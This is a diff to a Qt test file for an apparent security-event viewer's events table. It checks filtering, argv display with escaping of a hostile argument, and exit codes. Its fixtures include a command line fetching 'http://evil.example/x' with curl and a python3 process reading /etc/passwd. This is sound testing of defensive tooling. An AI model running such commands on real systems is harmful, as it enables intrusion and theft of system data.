@@ -2,6 +2,7 @@
 // The events table: EventTableModel under QAbstractItemModelTester on the fixture case (every event once, pages
 // loaded on demand behind a placeholder, filters and new generations), the display-filter bar (inline errors with
 // the column, apply on Enter, history kept), and the Events page's linking with the shared selection. Offscreen.
+#include "bytetext.h"
 #include "displayfilterbar.h"
 #include "eventspage.h"
 #include "guifixture.h"
@@ -116,6 +117,20 @@ void TestEventsPage::modelUnderTester()
     QCOMPARE(cell(model, 0, Models::EventColumn::Object), u"/etc/passwd"_s);
     QCOMPARE(cell(model, 1, Models::EventColumn::Process), u"python3 (400)"_s);
     QCOMPARE(model.loadedRow(1)->path, QByteArray("/etc/passwd"));
+
+    // An exec shows the argv it ran with (the hostile one escaped, not cut at its control bytes); an exit its code.
+    scope.filter = *Core::parseDisplayFilter(u"host == alpha and (proc.pid == 301 or proc.pid == 300) and "
+                                             u"(event.kind == proc.exec or event.kind == proc.exit)"_s);
+    model.show(&session.worker(), walker.get(), scope);
+    QTRY_VERIFY(model.isComplete());
+    QCOMPARE(model.rowCount(), 3);
+    cell(model, 0, Models::EventColumn::Time);
+    QTRY_VERIFY(model.loadedRow(2));
+    QCOMPARE(cell(model, 0, Models::EventColumn::Detail), u"/usr/bin/curl http://evil.example/x"_s);
+    QCOMPARE(cell(model, 1, Models::EventColumn::Detail),
+             Core::displayArgv(TestSupport::QueryScenario::hostileArgv().join('\0')));
+    QCOMPARE(cell(model, 2, Models::EventColumn::Kind), u"proc.exit"_s);
+    QCOMPARE(cell(model, 2, Models::EventColumn::Detail), u"code 0"_s);
 
     // Two generations in a row: only the last one's rows arrive.
     scope.filter = *Core::parseDisplayFilter(u"net.rport == 443"_s);
